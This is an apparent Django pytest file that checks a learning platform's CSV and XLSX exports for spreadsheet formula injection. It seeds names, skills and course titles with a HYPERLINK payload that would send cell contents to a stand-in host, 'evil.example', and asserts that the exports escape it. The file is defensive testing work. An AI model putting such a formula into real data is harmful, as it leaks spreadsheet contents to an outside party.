"""Text that a spreadsheet would run, typed into names and titles, comes out of every CSV and
XLSX export as text: each cell of each export is checked."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook  # type: ignore[import-untyped]

from learnloop.conftest import Org
from learnloop.insights import refresh
from learnloop.insights.tests import world as insights_world
from learnloop.insights.tests.conftest import Learning
from learnloop.learning import actions as learning
from learnloop.skills import actions as skills
from learnloop.skills.models import Skill, Source
from learnloop.uploads.export import escape_cell

PAYLOAD = '=HYPERLINK("https://evil.example/?"&A1,"x")'
ESCAPED = "'" + PAYLOAD


def _cells(response: Any) -> list[Any]:
    body = response.content
    if response["Content-Type"].startswith("text/csv"):
        return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]
    book = load_workbook(io.BytesIO(body))
    return [cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _runnable(cells: list[Any]) -> list[Any]:
    return [cell for cell in cells if escape_cell(cell) != cell]


@pytest.fixture
def hostile_org(org: Org, settings: Any, tmp_path: Path) -> Org:
    """The payload as a person's name, a department, a skill, a role profile and a course."""
    settings.INSIGHTS_DIR = tmp_path / "insights"
    settings.INSIGHTS_REFRESH_LAG_SECONDS = 0
    built = insights_world.build(org)
    built.engineering.name = PAYLOAD
    built.engineering.save()
    org.employee.user.full_name = PAYLOAD
    org.employee.user.save()
    organization = org.organization
    skills.ensure_default_scale(organization)
    skill = Skill.objects.create(organization=organization, label=PAYLOAD)
    skills.save_role_profile(
        organization, PAYLOAD, [(skill, 3, 1.0)], actor=None, actor_label="test",
        job_role=org.employee.job_role,
    )  # fmt: skip
    skills.add_claim(org.employee, skill, 2, Source.SELF, actor=org.employee.user)
    learning.create_item(organization, learning.ItemData(title=PAYLOAD), actor=None)
    for person in built.engineers + built.sellers + built.lawyers:
        Learning(person, 1, source="manager", name=PAYLOAD).full(insights_world.TODAY)
    refresh.refresh()
    return org


def _client(org: Org, role: str) -> Client:
    client = Client()
    client.force_login(org.user(role))
    return client


@pytest.mark.parametrize(
    ("role", "url"),
    [
        ("hr", "/skills/roles/export.csv"),
        ("manager", "/skills/gaps/team/?format=csv"),
        ("hr", "/skills/gaps/company/?format=csv"),
        ("ld", "/learning/manage/catalog.csv"),
        ("ld", "/api/v1/learning/catalog.csv"),
    ],
)
def test_the_export_writes_the_payload_as_text(hostile_org: Org, role: str, url: str) -> None:
    response = _client(hostile_org, role).get(url)
    assert response.status_code == 200
    cells = _cells(response)
    assert ESCAPED in cells
    assert _runnable(cells) == []


@pytest.mark.parametrize("dashboard", ["/insights/organization/", "/insights/content/"])
def test_every_dashboard_export_writes_the_payload_as_text(
    hostile_org: Org, dashboard: str
) -> None:
    client = _client(hostile_org, "hr")
    page = client.get(dashboard).content.decode()
    links = sorted(set(re.findall(r'href="(/insights/[a-z]+/data/[a-z0-9_-]+)\.csv', page)))
    assert links
    seen = []
    for link in links:
        for fmt in ("csv", "xlsx"):
            response = client.get(f"{link}.{fmt}")
            assert response.status_code == 200, link
            cells = _cells(response)
            assert _runnable(cells) == [], f"{link}.{fmt}"
            seen += cells
    assert ESCAPED in seen
